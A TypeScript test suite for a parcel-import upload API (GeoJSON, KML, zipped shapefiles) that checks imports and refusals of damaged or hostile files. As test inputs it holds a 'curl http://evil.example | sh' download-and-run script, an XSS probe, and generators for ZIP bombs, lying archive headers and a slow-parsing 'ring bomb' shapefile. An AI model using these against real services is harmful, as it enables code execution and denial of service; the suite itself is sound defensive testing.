import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { crc32, deflateRawSync } from 'node:zlib';
import { assert } from 'superstruct';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { geometryMessages, parcelImportMessages, ParcelImportAnswer } from '../../src/contract/gis.ts';
import type { Project, ProjectDetail } from '../../src/contract/projects.ts';
import { signedInPair } from '../support/accounts.ts';
import { describeApi } from '../support/describe-api.ts';
import type { HttpClient } from '../support/http-client.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { queryRows } from '../support/test-db.ts';
import { parcelUploadLimits } from '../../server/geo/parcel-import.ts';

const importPath = '/api/gis/parcels/import/';

/** A closed square ring, counter-clockwise (GeoJSON's outer-ring order), `size` degrees wide. */
const square = (lng: number, lat: number, size = 0.001) => [
  [lng, lat],
  [lng + size, lat],
  [lng + size, lat + size],
  [lng, lat + size],
  [lng, lat],
];

const feature = (properties: Record<string, unknown>, geometry: unknown) => ({ type: 'Feature', properties, geometry });
const polygonAt = (lng: number, lat: number) => ({ type: 'Polygon', coordinates: [square(lng, lat)] });

function parcelForm(content: string | Uint8Array<ArrayBuffer>, filename: string, fields: Record<string, string> = {}) {
  const form = new FormData();
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  form.append('file', new Blob([content], { type: 'application/octet-stream' }), filename);
  return form;
}

// ---------------------------------------------------------------------------------------------
// A zipped shapefile written byte by byte (ESRI Shapefile Technical Description, 1998; dBASE III; ZIP APPNOTE 4.3).

function shpPolygons(rings: number[][][]): { shp: Uint8Array<ArrayBuffer>; shx: Uint8Array<ArrayBuffer> } {
  const all = rings.flat();
  const box = [Math.min(...all.map((p) => p[0]!)), Math.min(...all.map((p) => p[1]!)), Math.max(...all.map((p) => p[0]!)), Math.max(...all.map((p) => p[1]!))];
  // Shapefile outer rings run clockwise.
  const records = rings.map((ring) => [...ring].reverse());
  const contentBytes = records.map((ring) => 44 + 4 + 16 * ring.length);
  const total = 100 + contentBytes.reduce((sum, n) => sum + 8 + n, 0);
  const header = (view: DataView, length: number) => {
    view.setInt32(0, 9994);
    view.setInt32(24, length / 2);
    view.setInt32(28, 1000, true);
    view.setInt32(32, 5, true);
    box.forEach((value, k) => view.setFloat64(36 + 8 * k, value, true));
  };
  const shp = new DataView(new ArrayBuffer(total));
  const shx = new DataView(new ArrayBuffer(100 + 8 * records.length));
  header(shp, total);
  header(shx, shx.byteLength);
  let at = 100;
  records.forEach((ring, k) => {
    shx.setInt32(100 + 8 * k, at / 2);
    shx.setInt32(104 + 8 * k, contentBytes[k]! / 2);
    shp.setInt32(at, k + 1);
    shp.setInt32(at + 4, contentBytes[k]! / 2);
    shp.setInt32(at + 8, 5, true);
    const xs = ring.map((p) => p[0]!);
    const ys = ring.map((p) => p[1]!);
    [Math.min(...xs), Math.min(...ys), Math.max(...xs), Math.max(...ys)].forEach((value, j) => shp.setFloat64(at + 12 + 8 * j, value, true));
    shp.setInt32(at + 44, 1, true);
    shp.setInt32(at + 48, ring.length, true);
    shp.setInt32(at + 52, 0, true);
    ring.forEach(([x, y], j) => {
      shp.setFloat64(at + 56 + 16 * j, x!, true);
      shp.setFloat64(at + 64 + 16 * j, y!, true);
    });
    at += 8 + contentBytes[k]!;
  });
  return { shp: new Uint8Array(shp.buffer), shx: new Uint8Array(shx.buffer) };
}

function dbfWithText(field: string, values: string[]): Uint8Array<ArrayBuffer> {
  const width = Math.max(...values.map((v) => v.length), 1);
  const headerLength = 32 + 32 + 1;
  const recordLength = 1 + width;
  const view = new DataView(new ArrayBuffer(headerLength + recordLength * values.length + 1));
  const bytes = new Uint8Array(view.buffer);
  view.setUint8(0, 3);
  view.setUint8(1, 126);
  view.setUint8(2, 1);
  view.setUint8(3, 1);
  view.setUint32(4, values.length, true);
  view.setUint16(8, headerLength, true);
  view.setUint16(10, recordLength, true);
  bytes.set(new TextEncoder().encode(field.slice(0, 10)), 32);
  bytes[32 + 11] = 'C'.charCodeAt(0);
  bytes[32 + 16] = width;
  bytes[64] = 0x0d;
  values.forEach((value, k) => bytes.set(new TextEncoder().encode(` ${value.padEnd(width)}`), headerLength + recordLength * k));
  bytes[bytes.length - 1] = 0x1a;
  return bytes;
}

/**
 * A ZIP archive of the files, stored or deflated. `claimedSize` replaces each entry's true unpacked size in the
 * headers, as a hostile archive may.
 */
function zipArchive(files: Record<string, Uint8Array>, { deflate = false, claimedSize }: { deflate?: boolean; claimedSize?: number } = {}): Uint8Array<ArrayBuffer> {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const [name, original] of Object.entries(files)) {
    const nameBytes = new TextEncoder().encode(name);
    const crc = crc32(original);
    const data = deflate ? deflateRawSync(original) : original;
    const size = claimedSize ?? original.length;
    const local = new DataView(new ArrayBuffer(30 + nameBytes.length));
    local.setUint32(0, 0x04034b50, true);
    local.setUint16(4, 20, true);
    local.setUint16(8, deflate ? 8 : 0, true);
    local.setUint32(14, crc, true);
    local.setUint32(18, data.length, true);
    local.setUint32(22, size, true);
    local.setUint16(26, nameBytes.length, true);
    new Uint8Array(local.buffer).set(nameBytes, 30);
    const central = new DataView(new ArrayBuffer(46 + nameBytes.length));
    central.setUint32(0, 0x02014b50, true);
    central.setUint16(4, 20, true);
    central.setUint16(6, 20, true);
    central.setUint16(10, deflate ? 8 : 0, true);
    central.setUint32(16, crc, true);
    central.setUint32(20, data.length, true);
    central.setUint32(24, size, true);
    central.setUint16(28, nameBytes.length, true);
    central.setUint32(42, offset, true);
    new Uint8Array(central.buffer).set(nameBytes, 46);
    locals.push(new Uint8Array(local.buffer), data);
    centrals.push(new Uint8Array(central.buffer));
    offset += local.byteLength + data.length;
  }
  const centralSize = centrals.reduce((sum, part) => sum + part.length, 0);
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  end.setUint16(8, centrals.length, true);
  end.setUint16(10, centrals.length, true);
  end.setUint32(12, centralSize, true);
  end.setUint32(16, offset, true);
  const parts = [...locals, ...centrals, new Uint8Array(end.buffer)];
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}

const wgs84Prj =
  'GEOGCS["GCS_WGS_1984",DATUM["D_WGS_1984",SPHEROID["WGS_1984",6378137.0,298.257223563]],PRIMEM["Greenwich",0.0],UNIT["Degree",0.0174532925199433]]';

function shapefileParts(parcels: { apn: string; ring: number[][] }[]): Record<string, Uint8Array<ArrayBuffer>> {
  const { shp, shx } = shpPolygons(parcels.map((p) => p.ring));
  return {
    'parcels.shp': shp,
    'parcels.shx': shx,
    'parcels.dbf': dbfWithText('PARCEL_ID', parcels.map((p) => p.apn)),
    'parcels.prj': new TextEncoder().encode(wgs84Prj),
  };
}

/** A .shp of `records` null shapes: 12 bytes each. */
function shpWithNullRecords(records: number): Uint8Array<ArrayBuffer> {
  const view = new DataView(new ArrayBuffer(100 + 12 * records));
  view.setInt32(0, 9994);
  view.setInt32(24, view.byteLength / 2);
  view.setInt32(28, 1000, true);
  view.setInt32(32, 5, true);
  for (let k = 0; k < records; k++) {
    view.setInt32(100 + 12 * k, k + 1);
    view.setInt32(104 + 12 * k, 2);
  }
  return new Uint8Array(view.buffer);
}

const zippedShapefile = (parcels: { apn: string; ring: number[][] }[]) => zipArchive(shapefileParts(parcels));

/**
 * One polygon record of `rings` small squares, alternately clockwise (outer) and counter-clockwise (holes that lie in
 * no outer ring): shpjs matches every hole against every outer ring, twice, so reading it takes time quadratic in `rings`.
 */
function ringBombShp(rings: number): Uint8Array<ArrayBuffer> {
  const points = 5;
  const content = 44 + 4 * rings + 16 * points * rings;
  const view = new DataView(new ArrayBuffer(100 + 8 + content));
  view.setInt32(0, 9994);
  view.setInt32(24, view.byteLength / 2);
  view.setInt32(28, 1000, true);
  view.setInt32(32, 5, true);
  view.setInt32(100, 1);
  view.setInt32(104, content / 2);
  view.setInt32(108, 5, true);
  view.setInt32(144, rings, true);
  view.setInt32(148, rings * points, true);
  const first = 152 + 4 * rings;
  for (let r = 0; r < rings; r++) {
    view.setInt32(152 + 4 * r, r * points, true);
    const [x, y, s] = [(r % 1000) * 0.0001, Math.floor(r / 1000) * 0.0001, 0.00005];
    const ring = r % 2 === 0 ? [[x, y], [x, y + s], [x + s, y + s], [x + s, y], [x, y]] : [[x, y], [x + s, y], [x + s, y + s], [x, y + s], [x, y]];
    ring.forEach(([px, py], k) => {
      view.setFloat64(first + 16 * (r * points + k), px!, true);
      view.setFloat64(first + 16 * (r * points + k) + 8, py!, true);
    });
  }
  return new Uint8Array(view.buffer);
}

const kmlDocument = (placemarks: string) => `<?xml version="1.0" encoding="UTF-8"?>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document>${placemarks}</Document></kml>`;
const kmlPlacemark = (name: string, ring: number[][]) =>
  `<Placemark><name>${name}</name><Polygon><outerBoundaryIs><LinearRing><coordinates>${ring.map(([x, y]) => `${x},${y},0`).join(' ')}</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>`;

type Errors = { errors: Record<string, string[]> };

describeApi('parcel import uploads', () => {
  let app: TestApp;
  let asha: HttpClient;
  let ravi: HttpClient;
  let project: Project;
  beforeAll(async () => {
    // These tests are about reading files, not about per-user limits (tests/server/costly-work.test.ts): one user imports
    // about a hundred files, several at once.
    app = await startTestApp({
      deps: { seedDemoData: false, limits: { costlyWorkAtOncePerUser: { limit: 100, seconds: 5 }, parcelImportPerUser: { limit: 10_000, seconds: 3600 } } },
    });
    [asha, ravi] = await signedInPair(app);
    project = (await asha.post<Project>('/api/project/create/', { name: 'Import site', location: { lat: 38.9, lng: -77.0 } })).body;
  });
  afterAll(() => app?.close());

  const upload = async (form: FormData, client = asha) => {
    const answer = await client.post<ParcelImportAnswer & Partial<Errors> & { detail?: string }>(importPath, form);
    return answer;
  };
  const stored = async () => (await queryRows<{ n: number }>(app.database, sql`select count(*)::int as n from parcels`))[0]?.n;
  const attachedApns = async () => (await asha.get<ProjectDetail>(`/api/project/get/?id=${project.id}`)).body.parcels.map((p) => p.apn).sort();

  it('imports GeoJSON as the user’s own parcels, attaches them to the project, and lists every refused feature', async () => {
    const collection = {
      type: 'FeatureCollection',
      features: [
        feature({ APN: 'G-1', LANDUSE: 'farm' }, polygonAt(-77.0, 38.9)),
        feature({ APN: 'G-2' }, { type: 'MultiPolygon', coordinates: [[square(-77.01, 38.9)]] }),
        feature({ APN: 'G-3' }, { type: 'Point', coordinates: [-77, 38.9] }),
        feature({ OTHER: 'x' }, polygonAt(-77.02, 38.9)),
        feature({ APN: 'G-1' }, polygonAt(-77.03, 38.9)),
        feature({ APN: 'G-4' }, null),
        null,
      ],
    };
    const answer = await upload(parcelForm(JSON.stringify(collection), 'parcels.txt', { project_id: project.id }));
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    assert(answer.body, ParcelImportAnswer);
    expect(answer.body).toEqual({
      imported: 2,
      attached: 2,
      total: 7,
      refused: [
        { index: 2, apn: 'G-3', reason: `${geometryMessages.shape} (got Point)` },
        { index: 3, reason: 'No parcel number in property "APN".' },
        { index: 4, apn: 'G-1', reason: 'The parcel number appears earlier in the file.' },
        { index: 5, apn: 'G-4', reason: 'The feature has no geometry.' },
        { index: 6, reason: 'Not a GeoJSON Feature.' },
      ],
    });
    const rows = await queryRows<{ apn: string; owner: boolean; source: string }>(
      app.database,
      sql`select p.apn, p.owner_id = u.id as owner, p.source from parcels p join users u on u.id = p.owner_id order by p.apn`,
    );
    expect(rows).toEqual([
      { apn: 'G-1', owner: true, source: 'Uploaded file parcels.txt' },
      { apn: 'G-2', owner: true, source: 'Uploaded file parcels.txt' },
    ]);
    expect(await attachedApns()).toEqual(['G-1', 'G-2']);

    // Again: the stored parcels are kept, not overwritten, and say so; nothing new to attach.
    const again = await upload(parcelForm(JSON.stringify({ type: 'FeatureCollection', features: collection.features.slice(0, 2) }), 'again.geojson', { project_id: project.id }));
    expect(again.body).toEqual({
      imported: 0,
      attached: 0,
      total: 2,
      refused: [
        { index: 0, apn: 'G-1', reason: parcelImportMessages.alreadyYours },
        { index: 1, apn: 'G-2', reason: parcelImportMessages.alreadyYours },
      ],
    });

    // Another user's import of the same numbers is theirs alone.
    const theirs = await upload(parcelForm(JSON.stringify(collection.features[0]), 'one.json'), ravi);
    expect(theirs.body).toEqual({ imported: 1, attached: 0, total: 1, refused: [] });
    expect(await stored()).toBe(3);
  });

  it('reads a zipped shapefile by its content, whatever its name', async () => {
    const zip = zippedShapefile([
      { apn: 'SHP-1', ring: square(-77.1, 38.8) },
      { apn: 'SHP-2', ring: square(-77.11, 38.8) },
    ]);
    const answer = await upload(parcelForm(zip, 'upload.bin', { project_id: project.id }));
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    expect(answer.body).toEqual({ imported: 2, attached: 2, total: 2, refused: [] });
    expect(await attachedApns()).toEqual(['G-1', 'G-2', 'SHP-1', 'SHP-2']);
    const [row] = await queryRows<{ apn: string; acres: number }>(app.database, sql`select apn, area_m2 / 4046.8564224 as acres from parcels where apn = 'SHP-1'`);
    // A 0.001° square at 38.8° N: about 111 m × 86.8 m.
    expect(row!.acres).toBeGreaterThan(2.2);
    expect(row!.acres).toBeLessThan(2.5);
  });

  it('reads KML, taking the placemark name as the parcel number, and honours apn_field', async () => {
    const text = kmlDocument(kmlPlacemark('KML-1', square(-77.2, 38.8)) + kmlPlacemark('KML-2', square(-77.21, 38.8)) + '<Placemark><name>KML-3</name><Point><coordinates>-77,38</coordinates></Point></Placemark>');
    const answer = await upload(parcelForm(text, 'parcels.kml'));
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    expect(answer.body).toEqual({ imported: 2, attached: 0, total: 3, refused: [{ index: 2, apn: 'KML-3', reason: `${geometryMessages.shape} (got Point)` }] });

    const named = { type: 'FeatureCollection', features: [feature({ LOT: 'L-9', name: 'Lot nine' }, polygonAt(-77.3, 38.8))] };
    expect((await upload(parcelForm(JSON.stringify(named), 'lots.geojson', { apn_field: 'LOT' }))).body).toMatchObject({ imported: 1, refused: [] });
    const unnamed = { type: 'FeatureCollection', features: [feature({ LOT: 'L-10' }, polygonAt(-77.31, 38.8))] };
    expect((await upload(parcelForm(JSON.stringify(unnamed), 'lots.geojson'))).body.errors).toEqual({ apn_field: [parcelImportMessages.noApnField] });
  });

  it('refuses what is not a parcel file (415), damaged files with what and where (400), oversized files (413) and others’ projects (404)', async () => {
    const before = await stored();
    const refuse = async (form: FormData, status: number, client = asha) => {
      const answer = await upload(form, client);
      expect(answer.status, JSON.stringify(answer.body)).toBe(status);
      return answer.body;
    };
    expect((await refuse(parcelForm('#!/bin/sh\ncurl http://evil.example | sh\n', 'parcels.geojson'), 415)).detail).toBe(parcelImportMessages.notParcelFile);
    expect((await refuse(parcelForm('<html><script>alert(1)</script></html>', 'parcels.kml'), 415)).detail).toBe(parcelImportMessages.notParcelFile);
    expect((await refuse(parcelForm(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), 'p.zip'), 415)).detail).toBe(parcelImportMessages.notParcelFile);

    const json = await refuse(parcelForm('{"type": "FeatureCollection",\n "features": [,]}', 'bad.geojson'), 400);
    expect(json.errors!.file![0]).toMatch(/^Not valid JSON: Unexpected token ','/);
    expect((await refuse(parcelForm('{"type": "Topology"}', 'topo.json'), 400)).errors).toEqual({ file: ['Expected a GeoJSON FeatureCollection or Feature.'] });
    const xml = await refuse(parcelForm('<kml>\n<Document><Placemark></Document></kml>', 'bad.kml'), 400);
    expect(xml.errors!.file![0]).toMatch(/^Not well-formed XML at line 2, column \d+:/);
    expect((await refuse(parcelForm(zipArchive({ 'readme.txt': new TextEncoder().encode('no shapes') }), 'x.zip'), 400)).errors!.file![0]).toMatch(/^Not a readable zipped shapefile/);
    expect((await refuse(parcelForm('', 'empty.geojson'), 400)).errors).toEqual({ file: [parcelImportMessages.emptyFile] });
    const noFile = new FormData();
    noFile.append('project_id', project.id);
    expect((await refuse(noFile, 400)).errors).toEqual({ file: [parcelImportMessages.fileRequired] });
    expect((await refuse(parcelForm('{}', 'x.json', { colour: 'red' }), 400)).errors).toEqual({ colour: ['Unknown field.'] });
    expect((await asha.post(importPath, { file: '{}' })).status).toBe(415);

    const big = `{"type":"FeatureCollection","features":[]}${' '.repeat(21 * 1024 * 1024)}`;
    expect((await refuse(parcelForm(big, 'big.geojson'), 413)).detail).toBe('File is too large.');

    const one = JSON.stringify(feature({ APN: 'R-1' }, polygonAt(-77.4, 38.8)));
    expect((await refuse(parcelForm(one, 'one.geojson', { project_id: project.id }), 404, ravi)).detail).toBe('Not found.');
    expect((await refuse(parcelForm(one, 'one.geojson', { project_id: 'not-a-project' }), 404)).detail).toBe('Not found.');
    expect((await asha.post(importPath, parcelForm(one, 'one.geojson'), { access: null })).status).toBe(401);
    expect(await stored()).toBe(before);
  });

  it('answers damaged and altered files with 200, 400 or 415, never a 500', async () => {
    const geojson = JSON.stringify({ type: 'FeatureCollection', features: [feature({ APN: 'F-1' }, polygonAt(-77.5, 38.8)), feature({ APN: 'F-2' }, polygonAt(-77.51, 38.8))] });
    const kmlText = kmlDocument(kmlPlacemark('F-3', square(-77.52, 38.8)));
    const zip = new TextDecoder('latin1').decode(zippedShapefile([{ apn: 'F-4', ring: square(-77.53, 38.8) }]));
    const damaged = fc
      .record({
        text: fc.constantFrom(geojson, kmlText, zip),
        at: fc.double({ min: 0, max: 1, noNaN: true }),
        length: fc.integer({ min: 0, max: 60 }),
        insert: fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom('{', '}', '[', ']', 'null', '"', '<', '</kml>', '1e400', 'NaN', ',', '\uFEFF', '\u0000')),
      })
      .map(({ text, at, length, insert }) => {
        const start = Math.floor(at * text.length);
        return text.slice(0, start) + insert + text.slice(start + length);
      });
    await fc.assert(
      fc.asyncProperty(damaged, async (text) => {
        const bytes = text.startsWith('PK') ? Uint8Array.from(text, (c) => c.charCodeAt(0) & 0xff) : new TextEncoder().encode(text);
        const answer = await upload(parcelForm(bytes, 'damaged.geojson'));
        expect([200, 400, 415], JSON.stringify(answer.body).slice(0, 300)).toContain(answer.status);
      }),
      { numRuns: 60 },
    );
  }, 120_000);
  describe('hostile files', () => {
    const healthyImport = JSON.stringify(feature({ APN: 'OK-1' }, polygonAt(-77.6, 38.8)));
    /** The server still reads an ordinary file after the attack. */
    const expectHealthy = async () => {
      const answer = await upload(parcelForm(healthyImport, 'ok.geojson'));
      expect(answer.status, JSON.stringify(answer.body)).toBe(200);
      expect(answer.body.total).toBe(1);
    };
    const refused = async (form: FormData, status: number) => {
      const before = await stored();
      const answer = await upload(form);
      expect(answer.status, JSON.stringify(answer.body)).toBe(status);
      expect(await stored()).toBe(before);
      await expectHealthy();
      return status === 400 ? answer.body.errors!.file![0]! : answer.body.detail!;
    };
    beforeAll(expectHealthy);

    it('refuses a ZIP header with no archive behind it (the old reader searched for its end forever)', async () => {
      const bytes = new Uint8Array(44);
      bytes.set([0x50, 0x4b, 0x03, 0x04]);
      expect(await refused(parcelForm(bytes, 'hang.zip'), 400)).toMatch(/^Not a readable zipped shapefile: the archive has no end-of-directory record/);
      const withPs = bytes.map((byte, k) => (k < 4 ? byte : 0x50));
      expect(await refused(parcelForm(withPs, 'hang.zip'), 400)).toMatch(/^Not a readable zipped shapefile/);
    });

    it('refuses a .dbf whose header claims more records than the file holds', async () => {
      const parts = shapefileParts([{ apn: 'D-1', ring: square(-77.7, 38.8) }]);
      new DataView(parts['parcels.dbf']!.buffer).setUint32(4, 2 ** 31, true);
      expect(await refused(parcelForm(zipArchive(parts), 'claims.zip'), 400)).toBe(
        'Not a readable zipped shapefile: parcels.dbf claims 2147483648 records of 4 bytes, but holds only 5 bytes of records',
      );
    });

    it('refuses an archive that unpacks beyond the limit, whether it says so or not', async () => {
      const parts = shapefileParts([{ apn: 'Z-1', ring: square(-77.7, 38.8) }]);
      const bomb = { ...parts, 'parcels.dbf': new Uint8Array(150 * 1024 * 1024) };
      const honest = zipArchive(bomb, { deflate: true });
      expect(honest.length).toBeLessThan(200 * 1024);
      expect(await refused(parcelForm(honest, 'bomb.zip'), 413)).toBe('The shapefile in the archive unpacks to 150 MiB; at most 64 MiB are read.');
      const lying = zipArchive(bomb, { deflate: true, claimedSize: 1000 });
      expect(await refused(parcelForm(lying, 'bomb.zip'), 400)).toMatch(/^Not a readable zipped shapefile: parcels\.(shp|dbf) (unpacks to more than the 1000 bytes it declares|is damaged)/);
    });

    it('refuses archives with too many entries and files with too many features', async () => {
      const entries = Object.fromEntries(Array.from({ length: 101 }, (_, k) => [`layer${k}.prj`, new TextEncoder().encode(wgs84Prj)]));
      expect(await refused(parcelForm(zipArchive(entries), 'many.zip'), 413)).toBe('The archive lists 101 entries; at most 100 are read.');

      const empties = Array.from({ length: 50_001 }, () => '{"type":"Feature","properties":{},"geometry":null}').join(',');
      expect(await refused(parcelForm(`{"type":"FeatureCollection","features":[${empties}]}`, 'many.geojson'), 413)).toBe(
        'The file holds more than 50000 features; at most 50000 are read from one file.',
      );
      expect(await refused(parcelForm(kmlDocument('<Placemark/>'.repeat(50_001)), 'many.kml'), 413)).toMatch(/^The file holds more than 50000 features/);
      const nulls: Record<string, Uint8Array> = { ...shapefileParts([]), 'parcels.shp': shpWithNullRecords(50_001) };
      delete nulls['parcels.dbf'];
      expect(await refused(parcelForm(zipArchive(nulls, { deflate: true }), 'nulls.zip'), 413)).toMatch(/^parcels\.shp holds more than 50000 records/);
    });

    it('stops a file that takes longer to read than the budget, while other requests are answered', async () => {
      const budget = parcelUploadLimits.parseMs;
      // Reading these 120,000 rings takes tens of seconds (60,000 took 6 s on a quiet 2-vCPU machine); the budget is lowered so the test does not wait 10 s.
      parcelUploadLimits.parseMs = 3000;
      try {
        const slow = upload(parcelForm(zipArchive({ 'rings.shp': ringBombShp(120_000) }), 'rings.zip'));
        let settled = false;
        void slow.finally(() => (settled = true));
        await expectHealthy();
        expect((await asha.get('/api/health/')).status).toBe(200);
        expect(settled).toBe(false);
        const answer = await slow;
        expect(answer.status, JSON.stringify(answer.body)).toBe(413);
        expect(answer.body.detail).toBe('Reading the file took longer than 3 s, the limit for one upload: split it into smaller files.');
      } finally {
        parcelUploadLimits.parseMs = budget;
      }
      await expectHealthy();
    });

    it('answers 503 with Retry-After when every reading thread stays busy for longer than an upload may wait', async () => {
      const limits = { ...parcelUploadLimits };
      // The slow files run until this budget stops them; a thread may take a second to start, so they keep the usual wait.
      parcelUploadLimits.parseMs = 8000;
      try {
        const rings = zipArchive({ 'rings.shp': ringBombShp(120_000) });
        // The route reads the wait once, as it hands a file to the pool: the slow files get the usual wait, and once
        // all of them are handed over (however long their bodies took to arrive on a busy machine), probes wait briefly.
        let handedOver = 0;
        Object.defineProperty(parcelUploadLimits, 'waitMs', { configurable: true, enumerable: false, get: () => (++handedOver <= limits.threads ? limits.waitMs : 500) });
        const slow = Array.from({ length: limits.threads }, () => upload(parcelForm(rings, 'rings.zip')));
        await expect.poll(() => handedOver, { timeout: 30_000 }).toBeGreaterThanOrEqual(limits.threads);
        // A probe takes a thread while one is free; once every thread reads a slow file, it waits and gives up.
        let busy: Awaited<ReturnType<typeof upload>> | undefined;
        await expect.poll(async () => (busy = await upload(parcelForm(healthyImport, 'ok.geojson'))).status, { timeout: 6000, interval: 0 }).toBe(503);
        expect(busy!.headers.get('retry-after')).toBe('60');
        expect(busy!.body.detail).toBe('Too many files are being read right now: try again in a minute.');
        const answers = await Promise.all(slow);
        expect(answers.map((answer) => answer.status), JSON.stringify(answers.map((answer) => answer.body))).toEqual(slow.map(() => 413));
      } finally {
        Object.defineProperty(parcelUploadLimits, 'waitMs', { configurable: true, enumerable: true, writable: true, value: limits.waitMs });
        Object.assign(parcelUploadLimits, limits);
      }
      await expectHealthy();
    });

    it('stores properties without NUL or lone surrogates, and refuses properties nested too deep', async () => {
      let deep: unknown = 'bottom';
      for (let k = 0; k < 25; k++) deep = { k: deep };
      const collection = {
        type: 'FeatureCollection',
        features: [
          feature({ APN: 'NUL-1\u0000', NOTE: 'a\u0000b', ['KEY\u0000']: '\ud800x', NESTED: ['\udc00', { y: 'z\u0000' }] }, polygonAt(-77.8, 38.8)),
          feature({ APN: 'DEEP-1', deep }, polygonAt(-77.81, 38.8)),
        ],
      };
      const answer = await upload(parcelForm(JSON.stringify(collection), 'nul.geojson'));
      expect(answer.status, JSON.stringify(answer.body)).toBe(200);
      expect(answer.body).toMatchObject({ imported: 1, total: 2, refused: [{ index: 1, apn: 'DEEP-1', reason: 'The properties nest deeper than 20 levels.' }] });
      const [row] = await queryRows<{ apn: string; attributes: Record<string, unknown> }>(app.database, sql`select apn, attributes from parcels where apn like 'NUL-%'`);
      expect(row).toEqual({ apn: 'NUL-1', attributes: { APN: 'NUL-1', NOTE: 'ab', KEY: '\ufffdx', NESTED: ['\ufffd', { y: 'z' }] } });
    });
  });
});
